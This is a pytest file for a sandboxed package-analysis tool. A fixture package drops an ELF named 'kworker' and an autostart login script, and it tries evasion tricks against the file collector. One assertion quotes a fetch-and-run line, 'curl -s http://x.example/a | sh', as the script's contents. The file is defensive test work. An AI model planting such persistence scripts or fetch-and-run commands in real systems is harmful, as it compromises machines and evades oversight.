"""What the files a package wrote held at the end of each phase (issue 11, item 3), through the
CLI in the real sandbox: one package (fixtures/packages/pypi_writes) writes an ordinary file, a
dropped ELF and a login script, and tries every trick against the reader: a link to /dev/zero, a
FIFO, a 1 GiB sparse file, a file deleted before the phase ends, an mtime set back, a forged list."""

from __future__ import annotations

import base64
import hashlib

import pytest

from builders import writes_pypi
from clirun import run_cli_json

pytestmark = pytest.mark.sandbox


@pytest.fixture(scope="module")
def docs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("writes")
    artifact = writes_pypi(tmp / "dist")
    return run_cli_json("analyze", "pypi", "--local", str(artifact), "--mode", "dynamic",
                        "--results", str(tmp / "results"), "--timeout", "180")


def _written(docs: dict, phase: str) -> dict[str, dict]:
    return {w["path"]: w for w in docs["report"]["dynamic"]["phases"][phase]["written_files"]}


def test_an_ordinary_file_is_kept_with_its_hash_size_and_first_kib(docs):
    notes = _written(docs, "install")["/var/tmp/notes.txt"]
    body = b"install notes\n" * 100
    assert notes["state"] == "present" and notes["traced"] and notes["type"] == "file"
    assert notes["size"] == len(body) and notes["sha256"] == hashlib.sha256(body).hexdigest()
    assert base64.b64decode(notes["head_b64"]) == body[:1024]
    assert notes["head_text"].startswith("install notes\n") and notes["head_kind"] == "text"


def test_each_phase_keeps_what_the_file_held_at_its_own_end(docs):
    notes = _written(docs, "import")["/var/tmp/notes.txt"]
    assert notes["sha256"] == hashlib.sha256(b"import notes\n").hexdigest()
    assert notes["sha256"] != _written(docs, "install")["/var/tmp/notes.txt"]["sha256"]
    assert "/tmp/.cache-x/kworker" not in _written(docs, "import")  # written at install only


def test_a_dropped_binary_and_a_login_script_are_judged_by_their_contents(docs):
    written = _written(docs, "install")
    assert written["/tmp/.cache-x/kworker"]["head_kind"] == "elf"
    script = next(w for p, w in written.items() if p.endswith("/.config/autostart/update.sh"))
    assert script["head_kind"] == "script" and "curl -s http://x.example/a | sh" in script["head_text"]
    fired = set(docs["report"]["verdict"]["rules_fired"])
    assert {"DYN-WRITE-BINARY", "DYN-WRITE-PERSISTENT-SCRIPT"} <= fired
    assert docs["report"]["verdict"]["label"] != "benign"


def test_a_link_to_dev_zero_and_a_fifo_are_listed_never_read(docs):
    written = _written(docs, "install")
    zero, fifo = written["/tmp/zero"], written["/tmp/fifo"]
    assert zero["type"] == "symlink" and zero["target"] == "/dev/zero"
    assert fifo["type"] == "fifo"
    for w in (zero, fifo):
        assert "sha256" not in w and "head_b64" not in w
    assert docs["report"]["dynamic"]["phases"]["install"]["status"] == "completed"


def test_a_huge_sparse_file_gets_its_head_and_size_not_a_hash(docs):
    sparse = _written(docs, "install")["/tmp/sparse"]
    assert sparse["size"] == 1 << 30 and "sha256" not in sparse and "larger than" in sparse["hash_skipped"]
    assert base64.b64decode(sparse["head_b64"]).startswith(b"SPARSE-HEAD")


def test_a_file_deleted_before_the_phase_ends_is_kept_as_absent(docs):
    # its contents are gone with it; that it was written, and where, is kept (from the trace)
    gone = _written(docs, "install")["/tmp/gone"]
    assert gone == {"path": "/tmp/gone", "state": "absent", "traced": True}


def test_an_mtime_set_back_does_not_hide_a_write(docs):
    old = _written(docs, "install")["/var/tmp/old.txt"]
    assert old["state"] == "present" and old["mtime"] == 1e9
    assert old["sha256"] == hashlib.sha256(b"old?").hexdigest()


def test_the_package_cannot_forge_the_list(docs):
    # it tried to write a list saying notes.txt hashes to "00" where the collector keeps its own
    notes = _written(docs, "install")["/var/tmp/notes.txt"]
    assert notes["sha256"] != "00"
    failed = docs["report"]["dynamic"]["phases"]["install"]["failed"]
    assert any("/root/.ci/out/written/install.json" in " ".join(f["args"]) for f in failed)
    summary = docs["report"]["dynamic"]["phases"]["install"]["written_summary"]
    assert "error" not in summary and summary["truncated"] is None
